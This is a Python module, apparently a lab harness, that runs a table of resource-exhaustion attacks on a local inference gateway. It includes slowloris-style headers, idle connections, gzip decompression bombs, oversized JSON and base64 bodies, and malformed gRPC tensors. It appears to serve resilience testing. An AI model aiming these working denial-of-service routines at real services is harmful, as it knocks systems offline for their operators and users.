"""The attacks: costly photos, and headers, bodies and gRPC calls that never end or are too much."""

import asyncio
import gzip
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

import grpc
import grpc.aio
from tritonclient.grpc import service_pb2

from lab.attack.photos import PHOTOS
from pipelines.protocol import ENCODED_IMAGE

_PATH = "/api/v1/predict"
_BATCH = "/api/v1/predict/batch"
_METHOD = "/inference.GRPCInferenceService/ModelInfer"
_MIB = 1024 * 1024
_PATIENCE = 90.0
"""Seconds that a caller of photos waits for its last answer."""
_PLAIN: tuple[tuple[str, int], ...] = (
    ("grpc.enable_http_proxy", 0),
    ("grpc.use_local_subchannel_pool", 1),
)


@dataclass(frozen=True)
class Target:
    """A service on this machine."""

    http: int
    """Port of the gateway's HTTP, as is `grpc` of its gRPC."""
    grpc: int
    pipeline: str


Attack = Callable[[Target, float], Awaitable[Counter[str]]]
"""Attacks for so many seconds; returns what came back, by status."""


async def _until_end(tasks: list[asyncio.Task[str]], seconds: float) -> Counter[str]:
    """Gives attackers their time, then leaves; what had not come back by then is `open`."""
    done, pending = await asyncio.wait(tasks, timeout=seconds)
    for task in pending:
        task.cancel()
    await asyncio.gather(*pending, return_exceptions=True)
    return Counter([task.result() for task in done] + ["open"] * len(pending))


async def _send(
    target: Target, head: str, body: Callable[[asyncio.StreamWriter], Awaitable[None]]
) -> str:
    """One connection: a head, then whatever `body` sends; returns the status that came."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.http)
    except OSError:
        return "no connection"
    writer.write(head.encode())
    sending = asyncio.ensure_future(body(writer))
    try:
        line = await reader.readline()
        return line.decode("latin-1").split(" ")[1] if b" " in line else "closed"
    except OSError:
        return "closed"
    finally:
        sending.cancel()
        await asyncio.gather(sending, return_exceptions=True)
        writer.close()


def _head(path: str, kind: str, length: int) -> str:
    """A request's head; `kind` is its media type, and what other header lines follow it."""
    return (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {kind}\r\n"
        f"Content-Length: {length}\r\n\r\n"
    )


async def header_flood(target: Target, seconds: float) -> Counter[str]:
    """Six connections whose headers never end."""

    async def lines(writer: asyncio.StreamWriter) -> None:
        line = b"".join(b"x-%d: %s\r\n" % (number, b"y" * 60) for number in range(1000))
        while True:
            writer.write(line)
            await writer.drain()

    async def again() -> str:
        status = "open"
        loop = asyncio.get_running_loop()
        end = loop.time() + seconds
        while loop.time() < end:
            status = await _send(target, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", lines)
        return status

    return await _until_end([asyncio.create_task(again()) for _ in range(6)], seconds + 1)


async def slow_headers(target: Target, seconds: float) -> Counter[str]:
    """400 connections that send one byte of a header in a second."""

    async def bytewise(writer: asyncio.StreamWriter) -> None:
        while True:
            await asyncio.sleep(1)
            writer.write(b"x")
            await writer.drain()

    head = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nx: "
    tasks = [asyncio.create_task(_send(target, head, bytewise)) for _ in range(400)]
    return await _until_end(tasks, seconds)


async def idle_connections(target: Target, seconds: float) -> Counter[str]:
    """1,000 connections that send nothing."""

    async def nothing(_: asyncio.StreamWriter) -> None:
        await asyncio.sleep(seconds)

    tasks = [asyncio.create_task(_send(target, "", nothing)) for _ in range(1000)]
    return await _until_end(tasks, seconds)


async def bodies_that_never_come(target: Target, seconds: float) -> Counter[str]:
    """128 requests that say a body of 1 MB and send none."""

    async def nothing(_: asyncio.StreamWriter) -> None:
        await asyncio.sleep(seconds)

    head = _head(_PATH, "application/octet-stream", 1_000_000)
    tasks = [asyncio.create_task(_send(target, head, nothing)) for _ in range(128)]
    return await _until_end(tasks, seconds)


async def slow_uploads(target: Target, seconds: float) -> Counter[str]:
    """Eight uploads of 2 kB a second."""

    async def slowly(writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(bytes(2000))
            await writer.drain()
            await asyncio.sleep(1)

    head = _head(_PATH, "application/octet-stream", 1_000_000)
    tasks = [asyncio.create_task(_send(target, head, slowly)) for _ in range(8)]
    return await _until_end(tasks, seconds)


def _bodies(path: str, make: Callable[[], bytes], callers: int, headers: str) -> Attack:
    """So many equal requests, whose body is made when they are sent."""

    async def attack(target: Target, seconds: float) -> Counter[str]:
        body = make()

        async def whole(writer: asyncio.StreamWriter) -> None:
            writer.write(body)
            await writer.drain()

        head = _head(path, headers, len(body))
        tasks = [asyncio.create_task(_send(target, head, whole)) for _ in range(callers)]
        return await _until_end(tasks, seconds)

    return attack


def _batch() -> bytes:
    entry = b'{"image":""},'
    return b'{"images":[' + (entry * (12 * _MIB // len(entry)))[:-1] + b"]}"


def _spaces() -> bytes:
    return b'{"image":"' + b" " * 60_000_000 + b'"}'


def _infer(target: Target, contents: bytes) -> bytes:
    request = service_pb2.ModelInferRequest(
        model_name=target.pipeline,
        inputs=[
            service_pb2.ModelInferRequest.InferInputTensor(
                name=ENCODED_IMAGE, datatype="BYTES", shape=(1, 1)
            )
        ],
        raw_input_contents=[contents],
    )
    serialised: bytes = request.SerializeToString()
    return serialised


async def calls_without_a_message(target: Target, seconds: float) -> Counter[str]:
    """128 gRPC calls that send no message."""
    async with grpc.aio.insecure_channel(f"127.0.0.1:{target.grpc}", options=_PLAIN) as channel:
        method = channel.stream_unary(_METHOD)

        async def one() -> str:
            call = method()
            try:
                await call
            except grpc.aio.AioRpcError as error:
                return str(error.code().name)
            return "OK"

        return await _until_end([asyncio.create_task(one()) for _ in range(128)], seconds)


def _messages(message: Callable[[Target], bytes], callers: int, *, compressed: bool) -> Attack:
    compression = grpc.Compression.Gzip if compressed else grpc.Compression.NoCompression

    async def attack(target: Target, seconds: float) -> Counter[str]:
        sent = message(target)
        address = f"127.0.0.1:{target.grpc}"
        async with grpc.aio.insecure_channel(
            address, options=_PLAIN, compression=compression
        ) as channel:
            method = channel.unary_unary(_METHOD)

            async def one() -> str:
                try:
                    await method(sent)
                except grpc.aio.AioRpcError as error:
                    return str(error.code().name)
                return "OK"

            tasks = [asyncio.create_task(one()) for _ in range(callers)]
            return await _until_end(tasks, seconds)

    return attack


def _empty_contents(target: Target) -> bytes:
    """A message whose tensor has four million strings of no length: two bytes each."""
    tensor = service_pb2.ModelInferRequest.InferInputTensor(
        name=ENCODED_IMAGE, datatype="BYTES", shape=(1, 1)
    )
    contents = b"\x42\x00" * 4_000_000
    whole = tensor.SerializeToString() + b"\x2a" + _varint(len(contents)) + contents
    request = service_pb2.ModelInferRequest(model_name=target.pipeline)
    serialised: bytes = request.SerializeToString() + b"\x2a" + _varint(len(whole)) + whole
    return serialised


def _varint(number: int) -> bytes:
    digits = bytearray()
    while number > 0x7F:  # noqa: PLR2004 - seven bits a byte
        digits.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*digits, number])


def _photos(photo: Callable[[], bytes], callers: int = 8) -> Attack:
    """So many callers that send a photo again and again."""

    async def attack(target: Target, seconds: float) -> Counter[str]:
        body = await asyncio.to_thread(photo)
        end = asyncio.get_running_loop().time() + seconds
        statuses: Counter[str] = Counter()

        async def whole(writer: asyncio.StreamWriter) -> None:
            writer.write(body)
            await writer.drain()

        async def again() -> str:
            head = _head(_PATH, "application/octet-stream", len(body))
            while True:
                status = await _send(target, head, whole)
                if asyncio.get_running_loop().time() >= end:
                    return status
                statuses[status] += 1

        # The last ones are waited for: what a service still works on is part of the attack.
        tasks = [asyncio.create_task(again()) for _ in range(callers)]
        return statuses + await _until_end(tasks, seconds + _PATIENCE)

    return attack


ATTACKS: dict[str, Attack] = {
    **{name: _photos(photo) for name, photo in PHOTOS.items()},
    "6 connections whose headers never end": header_flood,
    "400 connections, a byte of header a second": slow_headers,
    "1,000 idle connections": idle_connections,
    "128 bodies that never come": bodies_that_never_come,
    "8 uploads at 2 kB/s": slow_uploads,
    "8 bodies of 130 kB that inflate to 130 MB": _bodies(
        _PATH,
        lambda: gzip.compress(bytes(130 * _MIB)),
        8,
        "application/octet-stream\r\nContent-Encoding: gzip",
    ),
    "4 JSON batches of 900,000 empty images": _bodies(_BATCH, _batch, 4, "application/json"),
    "2 times 60,000,000 spaces for base64": _bodies(_PATH, _spaces, 2, "application/json"),
    "128 gRPC calls without a message": calls_without_a_message,
    "4 gRPC messages of 130 kB that inflate to 130 MB": _messages(
        lambda target: _infer(target, bytes(130 * _MIB)), 4, compressed=True
    ),
    "8 gRPC messages of 120 MB": _messages(
        lambda target: _infer(target, bytes(120 * _MIB)), 8, compressed=False
    ),
    "4 gRPC tensors of 4,000,000 empty strings": _messages(_empty_contents, 4, compressed=False),
}
"""By what the table calls them."""


def attack(name: str, target: Target, seconds: float) -> Counter[str]:
    """Runs an attack in a process of its own, so that bystanders wait for the service alone."""

    async def run() -> Counter[str]:
        return await ATTACKS[name](target, seconds)

    return asyncio.run(run())
